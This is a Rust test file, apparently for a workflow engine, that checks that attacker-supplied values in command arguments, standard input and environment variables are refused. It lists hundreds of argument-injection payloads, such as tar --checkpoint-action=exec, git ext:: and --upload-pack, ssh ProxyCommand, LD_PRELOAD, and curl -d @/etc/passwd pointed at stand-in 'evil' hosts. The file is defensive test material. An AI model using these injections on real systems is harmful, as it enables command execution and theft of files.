//! What a run brings stays data in every command: no program, no option, no program text.
//!
//! Each vector is compiled as a workflow. What compiles is performed for real with what an
//! attacker would send, and must be refused before anything is started.

use std::collections::BTreeMap;
use std::path::Path;

use cairn_core::plan::{Action, Plan};
use cairn_engine::performer::{Failed, Outcome};
use cairn_lang::diagnostic::Diagnostic;
use cairn_lang::graph;
use cairn_lang::ids::SourceKind;
use cairn_lang::source::SourceTree;
use cairn_steps::catalog;
use serde_json::Value;

use crate::world::{perform, settings, with_files};

/// What stands for something that was sent, in a workflow and in a plan.
const SENT: &str = "{{ event.payload.x }}";

const FILES: [(&str, &str); 3] = [
    ("nodes/own.sh", "#!/bin/sh\nprintf '%s\\n' \"$@\"; cat; echo \"$DATA\"\n"),
    ("nodes/pack.sh", "#!/bin/sh\n"),
    ("nodes/own.py", "import sys\nprint(sys.argv[1:], sys.stdin.read())\n"),
];

/// A workflow of one step; `§` is something that was sent.
fn compile(kind: &str, fields: &str) -> Result<Plan, Vec<Diagnostic>> {
    let node = format!("{{ id: a, type: {kind}, {fields} }}").replace('§', SENT);
    compiled(&format!("name: Test\ngraph:\n  nodes:\n    - {node}\n"))
}

fn compiled(text: &str) -> Result<Plan, Vec<Diagnostic>> {
    let files = FILES.iter().map(|(path, text)| (format!("w/{path}"), (*text).to_owned()));
    let files: BTreeMap<String, Vec<u8>> = files
        .chain([("w/workflow.yaml".to_owned(), text.to_owned())])
        .map(|(path, text)| (path, text.into_bytes()))
        .collect();
    let tree = SourceTree { kind: SourceKind::Project, files, library: BTreeMap::new() };
    graph::compile(&tree, "w/workflow.yaml", &catalog::types()).map(|compiled| compiled.plan)
}

/// The settings of the step with what was sent in them.
fn filled(value: &Value, sent: &str) -> Value {
    match value {
        Value::String(text) => Value::String(text.replace(SENT, sent)),
        Value::Array(items) => items.iter().map(|item| filled(item, sent)).collect(),
        Value::Object(members) => {
            Value::Object(members.iter().map(|(k, v)| (k.clone(), filled(v, sent))).collect())
        }
        other => other.clone(),
    }
}

async fn performed(kind: &str, plan: &Plan, sent: &str) -> Result<Outcome, Failed> {
    let Action::Typed { config, .. } = &plan.steps.first().unwrap().action else { panic!() };
    let folder = tempfile::tempdir().unwrap();
    let ctx = with_files(&FILES);
    perform(&settings(folder.path()), kind, filled(&config.0, sent), &ctx).await
}

/// How a step with this value in it is refused, if it is.
async fn refusal(kind: &str, fields: &str, sent: &str) -> Result<String, String> {
    let plan = match compile(kind, fields) {
        Ok(plan) => plan,
        Err(found) => {
            let codes: Vec<&str> = found.iter().map(|found| found.code.name()).collect();
            let is_refused = codes.contains(&"tainted_value");
            return if is_refused { Ok("compiler".into()) } else { Err(format!("{found:?}")) };
        }
    };
    match performed(kind, &plan, sent).await {
        Err(failed) if ["SHELL_ARGUMENT", "SHELL_ENV"].contains(&failed.code) => {
            assert!(
                failed.code != "SHELL_ARGUMENT"
                    || failed.message.starts_with("nothing of `fetch` was started")
            );
            Ok(failed.code.into())
        }
        other => Err(format!("{other:?}")),
    }
}

/// Arguments that would be a program or an option, and what is sent in them.
const ARGUMENTS: &[(&str, &str)] = &[
    // Options of programs that run others.
    ("[tar, -cf, /dev/null, §]", "--checkpoint-action=exec=touch CANARY"),
    (
        "[tar, -cf, /dev/null, --checkpoint=1, §, /etc/hostname]",
        "--checkpoint-action=exec=touch CANARY",
    ),
    (
        "[tar, -cf, /dev/null, --checkpoint=1, '--checkpoint-action=§', /etc/hostname]",
        "exec=touch CANARY",
    ),
    (
        "[tar, -cf, /dev/null, --checkpoint=1, '--checkpoint-act=§', /etc/hostname]",
        "exec=touch CANARY",
    ),
    ("[tar, -cf, /dev/null, --to-command, §, /etc/hostname]", "touch CANARY"),
    ("[tar, -c, -I, §, -f, CANARY.x, /etc/hostname]", "touch CANARY"),
    ("[tar, cIf, §, CANARY.x, /etc/hostname]", "touch CANARY"),
    ("[tar, cfI, CANARY.x, §, /etc/hostname]", "touch CANARY"),
    ("[tar, '--use-compress-program=§', -cf, CANARY.x, /etc/hostname]", "touch CANARY"),
    ("[tar, --rsh-command, §, -cf, 'a:b', /etc/hostname]", "touch CANARY"),
    ("[tar, -cf, §, /etc/hostname]", "evil:/tmp/x"),
    ("[tar, -T, §, -cf, /dev/null]", "/tmp/list"),
    ("[tar, -F, §, -cMf, /dev/null, /etc]", "touch CANARY"),
    ("[bsdtar, -cf, /dev/null, §]", "--options=x"),
    ("[git, clone, §, /tmp/none]", "--upload-pack=touch CANARY"),
    ("[git, clone, §, /tmp/none]", "ext::touch CANARY"),
    ("[git, clone, --, §, /tmp/none]", "ext::sh -c 'touch CANARY'"),
    ("[git, fetch, §]", "--upload-pack=touch CANARY"),
    ("[git, fetch, '--upload-pack=§', /tmp]", "touch CANARY"),
    ("[git, ls-remote, §]", "ext::sh -c touch% CANARY"),
    ("[git, ls-remote, §]", "--exec=touch CANARY"),
    ("[git, -c, §, status]", "core.fsmonitor=touch CANARY"),
    ("[git, -c, 'alias.x=§', x]", "!touch CANARY"),
    ("[git, '--config-env=§', status]", "core.pager=A"),
    ("[git, '--exec-path=§', status]", "/tmp"),
    ("[git, --exec-path, §, status]", "/tmp"),
    ("[git, §]", "evil"),
    ("[git, -C, /tmp, §]", "evil"),
    ("[git, -C, §, status]", "/tmp/evil"),
    ("[git, '--git-dir=§', status]", "/tmp/evil"),
    ("[git, '--work-tree=§', status]", "/tmp/evil"),
    ("[git, config, §, Y]", "core.pager"),
    ("[git, config, core.pager, §]", "touch CANARY"),
    ("[git, submodule, foreach, §]", "touch CANARY"),
    ("[git, bisect, run, §]", "touch CANARY"),
    ("[git, rebase, --exec, §, HEAD]", "touch CANARY"),
    ("[git, rebase, -x, §, HEAD]", "touch CANARY"),
    ("[git, difftool, -x, §]", "touch CANARY"),
    ("[git, grep, '-O§', pattern]", "touch CANARY"),
    ("[git, grep, '--open-files-in-pager=§', pattern]", "touch CANARY"),
    ("[git, log, §]", "--output=CANARY"),
    ("[git, log, '--§']", "output=CANARY"),
    ("[git, log, '-§']", "-output=CANARY"),
    ("[git, push, §]", "--receive-pack=touch CANARY"),
    ("[git, send-email, '--smtp-server=§']", "/tmp/evil"),
    ("[hg, --config, §, log]", "alias.log=!touch CANARY"),
    ("[hg, clone, §]", "--config=alias.clone=!touch CANARY"),
    ("[svn, §]", "--config-option=x"),
    ("[svn, checkout, '--config-option=§']", "config:tunnels:ssh=touch CANARY"),
    ("[make, §]", "--eval=$(shell touch CANARY)"),
    ("[make, §]", "SHELL=touch CANARY"),
    ("[make, -f, §]", "/tmp/evil.mk"),
    ("[make, 'NAME=§']", "$(shell touch CANARY)"),
    ("[make, --, §]", "SHELL=/tmp/evil"),
    ("[gmake, §]", "--eval=x"),
    ("[ninja, §]", "evil"),
    ("[mvn, §]", "exec:exec"),
    ("[find, §, -name, a]", "-exec"),
    ("[find, ., -name, a, §]", "-delete"),
    ("[find, ., -exec, §, ';']", "touch"),
    ("[find, ., -maxdepth, '0', -fprint, §]", "CANARY"),
    ("[find, ., -exec, sh, -c, §, ';']", "touch CANARY"),
    ("[find, ., -exec, tar, §, ';']", "--checkpoint-action=exec=touch CANARY"),
    ("[sed, §, /etc/hostname]", "1e touch CANARY"),
    ("[sed, -e, §, /etc/hostname]", "1e touch CANARY"),
    ("[sed, -f, §, /etc/hostname]", "/tmp/evil.sed"),
    ("[sed, -n, p, §]", "--expression=1e touch CANARY"),
    ("[awk, §]", "BEGIN{system(\"touch CANARY\")}"),
    ("[awk, -f, §]", "/tmp/evil.awk"),
    ("[awk, '-f§', '{print}']", "/tmp/evil.awk"),
    ("[gawk, -i, §, '{print}']", "/tmp/evil.awk"),
    ("[mawk, '{print}', §]", "-f/tmp/evil"),
    ("[sort, §]", "--compress-program=CANARY"),
    ("[sort, '--compress-program=§', /etc/hostname]", "CANARY"),
    ("[sort, --compress-prog, §, /etc/hostname]", "CANARY"),
    ("[sort, -o, §, /etc/hostname]", "CANARY"),
    ("[split, '--filter=§', /etc/hostname]", "touch CANARY"),
    ("[split, /etc/hostname, §]", "--filter=touch CANARY"),
    ("[rsync, -e, §, a, 'b:c']", "touch CANARY"),
    ("[rsync, '--rsync-path=§', a, 'b:c']", "touch CANARY"),
    ("[rsync, §, a, 'b:c']", "-etouch CANARY"),
    ("[ssh, -o, §, host]", "ProxyCommand=touch CANARY"),
    ("[ssh, §]", "-oProxyCommand=touch CANARY"),
    ("[ssh, host, df, §]", "; touch CANARY"),
    ("[scp, -o, §, a, b]", "ProxyCommand=touch CANARY"),
    ("[scp, -S, §, a, 'b:c']", "/tmp/evil"),
    ("[scp, a, §]", "-oProxyCommand=touch CANARY"),
    ("[sftp, -b, §, host]", "/tmp/evil"),
    ("[sqlite3, ':memory:', §]", ".shell touch CANARY"),
    ("[sqlite3, §]", "-cmd"),
    ("[psql, -c, §]", "\\! touch CANARY"),
    ("[psql, -o, §, -c, 'select 1']", "|touch CANARY"),
    ("[psql, -f, §]", "/tmp/evil.sql"),
    ("[mysql, -e, §]", "\\! touch CANARY"),
    ("[mysql, '--pager=§']", "touch CANARY"),
    ("[mysql, §]", "--init-command=x"),
    ("[vim, -c, §]", "!touch CANARY"),
    ("[vim, §]", "+!touch CANARY"),
    ("[vim, -S, §, a]", "/tmp/evil.vim"),
    ("[ed, §]", "!touch CANARY"),
    ("[gdb, -ex, §]", "shell touch CANARY"),
    ("[gdb, -x, §]", "/tmp/evil.gdb"),
    ("[gdb, §]", "/tmp/evil"),
    ("[docker, run, §]", "evil/image"),
    ("[docker, exec, box, §]", "sh"),
    ("[docker, §, ls]", "--host=tcp://evil"),
    ("[docker, -H, §, ps]", "tcp://evil"),
    ("[docker, compose, -f, §, up]", "/tmp/evil.yml"),
    ("[kubectl, exec, pod, --, §]", "sh"),
    ("[kubectl, exec, pod, --, sh, -c, §]", "touch CANARY"),
    ("[kubectl, apply, -f, §]", "https://evil/x.yml"),
    ("[kubectl, §]", "evil-plugin"),
    ("[systemd-run, §]", "touch"),
    ("[systemd-run, --property, §, df]", "ExecStartPre=touch CANARY"),
    ("[busybox, §, CANARY]", "touch"),
    ("[busybox, sh, -c, §]", "touch CANARY"),
    ("[busybox, tar, §]", "--to-command=touch CANARY"),
    ("[openssl, dgst, -engine, §, /etc/hostname]", "/tmp/evil.so"),
    ("[openssl, req, -config, §]", "/tmp/evil.cnf"),
    ("[openssl, req, §]", "-engine"),
    ("[zip, CANARY.zip, /etc/hostname, -T, -TT, §]", "touch CANARY; #"),
    ("[zip, CANARY.zip, §, /etc/hostname]", "-TTtouch"),
    ("[7z, a, a.7z, §]", "@/etc/passwd"),
    ("[curl, -K, §]", "/tmp/evil.conf"),
    ("[curl, -o, §, 'https://example.invalid']", "CANARY"),
    ("[curl, -so, §, 'https://example.invalid']", "CANARY"),
    ("[curl, 'https://example.invalid', §]", "-oCANARY"),
    ("[curl, -d, §, 'https://example.invalid']", "@/etc/passwd"),
    ("[curl, '--data=§', 'https://example.invalid']", "@/etc/passwd"),
    ("[curl, -x, §, 'https://example.invalid']", "http://evil"),
    ("[wget, '--use-askpass=§', 'https://example.invalid']", "CANARY"),
    ("[wget, -e, §, 'https://example.invalid']", "use_askpass=CANARY"),
    ("[wget, §]", "--use-askpass=CANARY"),
    ("[wget, -O, §, 'https://example.invalid']", "CANARY"),
    ("[less, §]", "+!touch CANARY"),
    ("[man, -P, §, ls]", "touch CANARY"),
    ("[man, §]", "-Ptouch CANARY"),
    ("[man, '--html=§', ls]", "touch CANARY"),
    ("[tcpdump, -z, §, -w, a]", "/tmp/evil"),
    ("[tcpdump, §]", "-z/tmp/evil"),
    ("[nmap, --script, §, localhost]", "/tmp/evil.nse"),
    ("[nmap, '--script=§', localhost]", "/tmp/evil.nse"),
    ("[nmap, §]", "--script=/tmp/evil.nse"),
    ("[gcc, -wrapper, §, a.c]", "touch,CANARY"),
    ("[gcc, §]", "@/tmp/evil"),
    ("[gcc, '-specs=§', a.c]", "/tmp/evil"),
    ("[gcc, '-fplugin=§', a.c]", "/tmp/evil.so"),
    ("[gcc, §]", "-B/tmp"),
    ("[npm, install, §]", "evil-package"),
    ("[npm, run, §]", "evil"),
    ("[npx, §]", "evil-package"),
    ("[npx, -c, §]", "touch CANARY"),
    ("[cargo, §]", "evil"),
    ("[cargo, install, §]", "evil"),
    ("[go, run, §]", "evil"),
    ("[pip, install, §]", "evil"),
    ("[pip3, install, §]", "--index-url=https://evil"),
    ("[apt-get, install, §]", "-oAPT::Update::Pre-Invoke::=touch CANARY"),
    ("[crontab, §]", "/tmp/evil"),
    ("[at, -f, §, now]", "/tmp/evil"),
    ("[watch, §]", "touch CANARY"),
    ("[parallel, §]", "touch CANARY"),
    ("[script, -c, §, /dev/null]", "touch CANARY"),
    ("[script, §]", "-ctouch CANARY"),
    ("[flock, /tmp/lock, -c, §]", "touch CANARY"),
    ("[flock, /tmp/lock, §, CANARY]", "touch"),
    ("[socat, §, '-']", "EXEC:touch CANARY"),
    ("[ncat, -e, §, host, '1']", "touch CANARY"),
    ("[nc, host, '1', §]", "-etouch"),
    ("[fd, -x, §]", "touch"),
    ("[rg, --pre, §, a]", "touch"),
    ("[pandoc, --filter, §, a.md]", "/tmp/evil"),
    ("[convert, §, a.png]", "msl:/tmp/evil"),
    ("[convert, §, a.png]", "|touch CANARY"),
    ("[exiftool, §]", "-config"),
    ("[gpg, '--photo-viewer=§', -k]", "touch CANARY"),
    ("[ansible-playbook, §]", "/tmp/evil.yml"),
    ("[terraform, apply, §]", "/tmp/evil"),
    ("[tmux, new-session, §]", "touch CANARY"),
    ("[xdg-open, §]", "/tmp/evil.desktop"),
    // Interpreters.
    ("[bash, -c, §]", "touch CANARY"),
    ("[bash, §]", "-ctouch"),
    ("[bash, nodes/own.sh, §]", "-x"),
    ("[bash, nodes/own.sh, --, §]", "-x"),
    ("[bash, -c, 'echo \"$1\"', _, §]", "+x"),
    ("[/bin/sh, -c, §]", "touch CANARY"),
    ("[python3, -c, §]", "open('CANARY','w')"),
    ("[python3, §]", "/tmp/evil.py"),
    ("[perl, -e, §]", "open F,'>CANARY'"),
    ("[perl, -ne, print, §]", "touch CANARY|"),
    ("[perl, '-M§', -e, '1']", "evil"),
    ("[ruby, -e, §]", "`touch CANARY`"),
    ("[ruby, -r, §, a.rb]", "evil"),
    ("[node, -e, §]", "require('fs').writeFileSync('CANARY','')"),
    ("[node, --require, §, nodes/own.sh]", "/tmp/evil.js"),
    ("[lua, -e, §]", "os.execute('touch CANARY')"),
    ("[lua, -l, §, a.lua]", "evil"),
    ("[php, -r, §]", "touch('CANARY');"),
    ("[php, -d, §, a.php]", "auto_prepend_file=/tmp/evil"),
    ("[Rscript, -e, §]", "system('touch CANARY')"),
    ("[java, -jar, §]", "/tmp/evil.jar"),
    ("[java, -cp, §, Main]", "/tmp/evil.jar"),
    ("[tclsh, §]", "/tmp/evil.tcl"),
    ("[expect, -c, §]", "exec touch CANARY"),
    ("[m4, §]", "/tmp/evil.m4"),
    ("[m4, '-DA=§']", "syscmd(touch CANARY)"),
    ("[bc, §]", "/tmp/evil.bc"),
    ("[dc, -e, §]", "!touch CANARY"),
    ("[pdflatex, §]", "\\write18{touch CANARY}"),
    ("[julia, -L, §, a.jl]", "/tmp/evil.jl"),
    // Programs that run the command behind their options.
    ("[env, §, CANARY]", "touch"),
    ("[env, -S, §]", "touch CANARY"),
    ("[env, 'PATH=§', df]", "/tmp/evil"),
    ("[env, 'LD_PRELOAD=§', df]", "/tmp/evil.so"),
    ("[env, 'TAR_OPTIONS=§', tar, -cf, /dev/null, /etc/hostname]", "--checkpoint=1"),
    ("[env, 'HOME=§', git, status]", "/tmp/evil"),
    ("[sudo, §]", "touch"),
    ("[timeout, '5', §]", "touch"),
    ("[timeout, '5', tar, -cf, /dev/null, §]", "--checkpoint-action=exec=touch CANARY"),
    ("[nice, -n, §, df]", "5"),
    ("[nohup, §]", "touch"),
    ("[setsid, §, CANARY]", "touch"),
    ("[unshare, §, CANARY]", "touch"),
    ("[chroot, §, sh]", "/tmp/evil"),
    ("[chroot, /, §]", "touch"),
    ("[strace, -o, §, df]", "|touch CANARY"),
    ("[strace, §]", "touch"),
    ("[xargs, §]", "touch"),
    ("[xargs, -a, §, df]", "/etc/passwd"),
    ("[stdbuf, -oL, §]", "touch"),
    ("[/lib64/ld-linux-x86-64.so.2, §, CANARY]", "/bin/touch"),
    ("[/lib64/ld-linux-x86-64.so.2, --preload, §, /bin/df]", "/tmp/evil.so"),
    ("[/lib64/ld-linux-x86-64.so.2, /bin/sh, -c, §]", "touch CANARY"),
    ("[ld.so, §]", "/bin/sh"),
    ("[/proc/self/exe, §]", "x"),
    ("[/proc/self/exe, -c, §]", "touch CANARY"),
    // Programs that run a command, a file or an expression of their arguments.
    ("[python3, -m, timeit, §]", "touch CANARY"),
    ("[python3, -mtimeit, §]", "touch CANARY"),
    ("[python3, -Im, timeit, §]", "touch CANARY"),
    ("[python3, -m, cProfile, §]", "touch CANARY"),
    ("[python3, -m, doctest, §]", "touch CANARY"),
    ("[python3, -m, pdb, §]", "touch CANARY"),
    ("[python3, -m, runpy, §]", "touch CANARY"),
    ("[python3, -m, own.module, §]", "touch CANARY"),
    ("[python3, -m, §]", "touch CANARY"),
    ("[node, inspect, §]", "touch CANARY"),
    ("[deno, task, §]", "touch CANARY"),
    ("[choom, -n, '1', §]", "touch CANARY"),
    ("[pyenv, exec, §]", "touch CANARY"),
    ("[rbenv, exec, §]", "touch CANARY"),
    ("[asdf, exec, §]", "touch CANARY"),
    ("[mise, exec, §]", "touch CANARY"),
    ("[ifne, §]", "touch CANARY"),
    ("[pee, §]", "touch CANARY"),
    ("[mispipe, §, cat]", "touch CANARY"),
    ("[xinit, §]", "touch CANARY"),
    ("[x-terminal-emulator, -e, §]", "touch CANARY"),
    ("[run-mailcap, §]", "touch CANARY"),
    ("[rename, §, a]", "touch CANARY"),
    ("[prename, -n, §, a]", "touch CANARY"),
    ("[file-rename, -e, §, a]", "touch CANARY"),
    ("[opt, -load, §, a.ll]", "touch CANARY"),
    ("[yt-dlp, --exec, §, a]", "touch CANARY"),
    ("[youtube-dl, '--exec=§', a]", "touch CANARY"),
    ("[borg, --rsh, §, list]", "touch CANARY"),
    ("[borg, create, --content-from-command, 'a::b', --, §]", "touch CANARY"),
    ("[restic, --password-command, §, ls]", "touch CANARY"),
    ("[restic, -o, §, ls]", "touch CANARY"),
    ("[rclone, --password-command, §, ls]", "touch CANARY"),
    ("[blender, -P, §]", "touch CANARY"),
    ("[latexmk, -e, §]", "touch CANARY"),
    ("[latexmk, '-pdflatex=§']", "touch CANARY"),
    ("[ps2pdf, a, §]", "touch CANARY"),
    ("[mutt, -e, §]", "touch CANARY"),
    ("[ghc, -e, §]", "touch CANARY"),
    ("[crystal, eval, §]", "touch CANARY"),
    ("[nim, e, §]", "touch CANARY"),
    ("[tcc, -run, §]", "touch CANARY"),
    ("[zig, run, §]", "touch CANARY"),
    ("[v, run, §]", "touch CANARY"),
    ("[dart, §]", "touch CANARY"),
    ("[kotlinc, -script, §]", "touch CANARY"),
    ("[rc, -c, §]", "touch CANARY"),
    ("[es, -c, §]", "touch CANARY"),
    ("[oil, -c, §]", "touch CANARY"),
    ("[sqlcipher, a.db, §]", "touch CANARY"),
    ("[tig, -c, §]", "touch CANARY"),
    ("[elinks, -eval, §]", "touch CANARY"),
    ("[pppd, connect, §]", "touch CANARY"),
    ("[openvpn, --up, §]", "touch CANARY"),
    ("[dnsmasq, '--dhcp-script=§']", "touch CANARY"),
    ("[dhclient, -sf, §]", "touch CANARY"),
    ("[wpa_cli, -a, §]", "touch CANARY"),
    ("[gphoto2, --hook-script, §]", "touch CANARY"),
    ("[google-chrome, '--renderer-cmd-prefix=§']", "touch CANARY"),
    ("[setlock, /tmp/lock, §]", "touch CANARY"),
    ("[softlimit, -m, '1', §]", "touch CANARY"),
    ("[s6-setuidgid, root, §]", "touch CANARY"),
    ("[execlineb, -c, §]", "touch CANARY"),
    ("[envdir, /tmp, §]", "touch CANARY"),
    ("[envconsul, §]", "touch CANARY"),
    ("[catatonit, §]", "touch CANARY"),
    ("[cpulimit, -l, '5', §]", "touch CANARY"),
    ("[proot, §]", "touch CANARY"),
    ("[tsocks, §]", "touch CANARY"),
    ("[proxychains4, §]", "touch CANARY"),
    ("[etcdctl, lock, a, §]", "touch CANARY"),
    ("[consul, exec, §]", "touch CANARY"),
    ("[qemu-x86_64, §]", "touch CANARY"),
    ("[lxc-execute, -n, a, §]", "touch CANARY"),
    ("[mpirun, -np, '4', §]", "touch CANARY"),
    ("[mpiexec, §]", "touch CANARY"),
    ("[srun, §]", "touch CANARY"),
    ("[sbatch, '--wrap=§']", "touch CANARY"),
    ("[qsub, §]", "touch CANARY"),
    ("[bsub, §]", "touch CANARY"),
    ("[pdsh, -w, a, §]", "touch CANARY"),
    ("[pssh, §]", "touch CANARY"),
    ("[clush, §]", "touch CANARY"),
    ("[ccache, §]", "touch CANARY"),
    ("[distcc, §]", "touch CANARY"),
    ("[sccache, §]", "touch CANARY"),
    ("[libtool, --mode=execute, §]", "touch CANARY"),
    ("[rr, record, §]", "touch CANARY"),
    ("[watchexec, §]", "touch CANARY"),
    ("[reflex, §]", "touch CANARY"),
    ("[concurrently, §]", "touch CANARY"),
    ("[npm-run-all, §]", "touch CANARY"),
    ("[honcho, run, §]", "touch CANARY"),
    ("[hive, -e, §]", "touch CANARY"),
    ("[beeline, -e, §]", "touch CANARY"),
    ("[pig, -e, §]", "touch CANARY"),
    ("[radare2, -qc, §]", "touch CANARY"),
    ("[gh, alias, set, a, §]", "touch CANARY"),
    ("[coverage, run, §]", "touch CANARY"),
    ("[pytest, §]", "touch CANARY"),
    ("[gunicorn, §]", "touch CANARY"),
    ("[uvicorn, §]", "touch CANARY"),
    ("[celery, -A, §]", "touch CANARY"),
    ("[nix-build, §]", "touch CANARY"),
    ("[rpmbuild, -ba, §]", "touch CANARY"),
    ("[nextflow, run, §]", "touch CANARY"),
    ("[op, run, --, §]", "touch CANARY"),
    ("[mpv, '--script=§']", "touch CANARY"),
    ("[gimp, -b, §]", "touch CANARY"),
    ("[smbclient, -c, §, //a/b]", "touch CANARY"),
    ("[tftp, a, -c, §]", "touch CANARY"),
    ("[spark-submit, §]", "touch CANARY"),
    ("[hadoop, jar, §]", "touch CANARY"),
    ("[cairn, run, §]", "touch CANARY"),
    ("[groff, -U, §]", "touch CANARY"),
    ("[env, 'NAME=§', make]", "touch CANARY"),
    ("[env, 'NAME=§', timeout, '5', gmake, all]", "touch CANARY"),
    ("[env, 'NAME=§', sh, -c, 'cd a && make all']", "touch CANARY"),
    ("[sudo, 'NAME=§', make]", "touch CANARY"),
    ("[tar, §, touch, CANARY, /etc/hostname]", "cIf"),
    ("[tar, §, touch, CANARY, /etc/hostname]", "cFf"),
    ("[rclone, copy, §, a]", ":sftp,ssh=touch CANARY:"),
    // Any other program.
    ("[§]", "touch"),
    ("[df, §]", "-x"),
    ("[df, §]", "--x=y"),
    ("[df, §]", "-"),
    ("[df, §]", "--"),
    ("[df, '-§']", "h"),
    ("[df, '-v§']", "h"),
    ("[df, '--§']", "help"),
    ("[date, §]", "+%s"),
    ("[mytool, --, §]", "--evil"),
    ("[mytool, run, §]", "-evil"),
    ("[nodes/own.sh, §]", "-x"),
    ("[grep, -e, --, §, /etc/hostname]", "-f/etc/passwd"),
    ("[cp, -t, --, §]", "-evil"),
];

/// Commands that take a program from their input, or arguments.
const INPUTS: &[(&str, &str)] = &[
    ("[bash]", "touch CANARY"),
    ("[bash, -s, a]", "touch CANARY"),
    ("[bash, /dev/stdin]", "touch CANARY"),
    ("[bash, /dev/fd/0]", "touch CANARY"),
    ("[sh, /proc/self/fd/0]", "touch CANARY"),
    ("[bash, '-']", "touch CANARY"),
    ("[python3]", "open('CANARY','w')"),
    ("[python3, '-']", "open('CANARY','w')"),
    ("[python3, /dev/stdin]", "open('CANARY','w')"),
    ("[python3, -i, nodes/own.py]", "open('CANARY','w')"),
    ("[perl]", "open F,'>CANARY'"),
    ("[perl, /dev/stdin]", "open F,'>CANARY'"),
    ("[node, '-']", "require('fs').writeFileSync('CANARY','')"),
    ("[awk, -f, '-', /etc/hostname]", "{system(\"touch CANARY\")}"),
    ("[awk, '-f-', /etc/hostname]", "{system(\"touch CANARY\")}"),
    ("[awk, -f, /dev/stdin, /etc/hostname]", "{system(\"touch CANARY\")}"),
    ("[sed, -f, '-', /etc/hostname]", "1e touch CANARY"),
    ("[sed, '--file=/dev/stdin', /etc/hostname]", "1e touch CANARY"),
    ("[make, -f, '-']", "a:\n\ttouch CANARY"),
    ("[make, '--file=-']", "a:\n\ttouch CANARY"),
    ("[make, '-f/dev/stdin']", "a:\n\ttouch CANARY"),
    ("[sqlite3]", ".shell touch CANARY"),
    ("[sqlite3, ':memory:']", ".shell touch CANARY"),
    ("[psql]", "\\! touch CANARY"),
    ("[mysql]", "\\! touch CANARY"),
    ("[bc]", "x"),
    ("[dc]", "!touch CANARY"),
    ("[m4]", "syscmd(touch CANARY)"),
    ("[ed, /tmp/x]", "!touch CANARY"),
    ("[ex, /tmp/x]", "!touch CANARY"),
    ("[vim, -es]", "!touch CANARY"),
    ("[gdb]", "shell touch CANARY"),
    ("[at, now]", "touch CANARY"),
    ("[crontab, '-']", "* * * * * touch CANARY"),
    ("[expect]", "exec touch CANARY"),
    ("[tclsh]", "exec touch CANARY"),
    ("[lua, '-']", "os.execute('touch CANARY')"),
    ("[php]", "<?php touch('CANARY');"),
    ("[ssh, host]", "touch CANARY"),
    ("[ssh, -p, '22', host]", "touch CANARY"),
    ("[ssh, host, bash]", "touch CANARY"),
    ("[sftp, host]", "!touch CANARY"),
    ("[curl, -K, '-']", "output = CANARY"),
    ("[tar, -cf, /dev/null, -T, '-']", "--checkpoint-action=exec=touch CANARY"),
    ("[xargs, env]", "touch CANARY"),
    ("[xargs, sh, -c]", "touch CANARY"),
    ("[xargs, -n, '1', timeout, '5']", "touch"),
    ("[xargs, tar, -cf, /dev/null]", "--checkpoint-action=exec=touch CANARY"),
    ("[xargs, df]", "--help"),
    ("[xargs, '-I{}', sh, -c, 'echo {}']", "$(touch CANARY)"),
    ("[parallel]", "touch CANARY"),
    ("[env, A=b, bash]", "touch CANARY"),
    ("[timeout, '5', sh]", "touch CANARY"),
    ("[/lib64/ld-linux-x86-64.so.2, /bin/sh]", "touch CANARY"),
    ("[docker, exec, -i, box, bash]", "touch CANARY"),
    ("[find, ., -maxdepth, '0', -exec, sh, ';']", "touch CANARY"),
    ("[busybox, sh]", "touch CANARY"),
    ("[socat, '-', x]", "x"),
    ("[python3, -m, code]", "touch CANARY"),
    ("[python3, -m, asyncio]", "touch CANARY"),
    ("[python3, -m, pdb, nodes/own.py]", "touch CANARY"),
    ("[python3, -m, own.module]", "touch CANARY"),
    ("[perl, -d, t.pl]", "touch CANARY"),
    ("[node, inspect, a.js]", "touch CANARY"),
    ("[script, -q, /dev/null]", "touch CANARY"),
    ("[chroot, /]", "touch CANARY"),
    ("[unshare]", "touch CANARY"),
    ("[nsenter, -t, '1']", "touch CANARY"),
    ("[sudo, -s]", "touch CANARY"),
    ("[newgrp]", "touch CANARY"),
    ("[sg, root]", "touch CANARY"),
    ("[runuser, root]", "touch CANARY"),
    ("[split, '--filter=sh']", "touch CANARY"),
    ("[split, --filter, 'xz | sh']", "touch CANARY"),
    ("[tar, -I, sh, -xf, '-']", "touch CANARY"),
    ("[groff, -U]", "touch CANARY"),
    ("[pwsh, '-']", "touch CANARY"),
    ("[pwsh, -Command, '-']", "touch CANARY"),
    ("[pwsh, -File, /dev/stdin]", "touch CANARY"),
    ("[smbclient, //a/b]", "touch CANARY"),
    ("[mail, ada@example.invalid]", "touch CANARY"),
    ("[mailx, ada@example.invalid]", "touch CANARY"),
    ("[tcc, -run, '-']", "touch CANARY"),
    ("[go, run, '-']", "touch CANARY"),
    ("[cmake, -P, /dev/stdin]", "touch CANARY"),
    ("[just, --justfile, /dev/stdin]", "touch CANARY"),
    ("[just, '--justfile=/dev/stdin']", "touch CANARY"),
    ("[terraform, console]", "touch CANARY"),
    ("[tofu, console]", "touch CANARY"),
    ("[snakemake, -s, /dev/stdin]", "touch CANARY"),
    ("[nix-shell, '-']", "touch CANARY"),
    ("[nix-instantiate, '-']", "touch CANARY"),
    ("[django-admin, shell]", "touch CANARY"),
    ("[rails, console]", "touch CANARY"),
    ("[flask, shell]", "touch CANARY"),
    ("[pry]", "touch CANARY"),
    ("[irb]", "touch CANARY"),
    ("[utop]", "touch CANARY"),
    ("[groovysh]", "touch CANARY"),
    ("[deno, repl]", "touch CANARY"),
    ("[octave-cli]", "touch CANARY"),
    ("[gp]", "touch CANARY"),
    ("[sage]", "touch CANARY"),
    ("[msfconsole]", "touch CANARY"),
    ("[debugfs]", "touch CANARY"),
    ("[crash]", "touch CANARY"),
    ("[beeline]", "touch CANARY"),
    ("[docker, exec, -i, box, psql]", "touch CANARY"),
    ("[docker, exec, -i, box, python3]", "touch CANARY"),
    ("[podman, exec, -i, box, sqlite3, a.db]", "touch CANARY"),
    ("[kubectl, exec, -i, pod, --, psql]", "touch CANARY"),
    ("[convert, 'msl:-', a.png]", "touch CANARY"),
    ("[magick, 'msl:-', a.png]", "touch CANARY"),
    ("[ffmpeg, -f, concat, -i, '-']", "touch CANARY"),
    ("[cairn, mcp]", "touch CANARY"),
    ("[pee, sh]", "touch CANARY"),
    ("[sbatch]", "touch CANARY"),
    ("[qsub]", "touch CANARY"),
    ("[rc]", "touch CANARY"),
    ("[es]", "touch CANARY"),
    ("[oil]", "touch CANARY"),
];

/// Variables that make programs run something else.
const VARIABLES: &[&str] = &[
    "LD_PRELOAD",
    "PATH",
    "BASH_ENV",
    "ENV",
    "IFS",
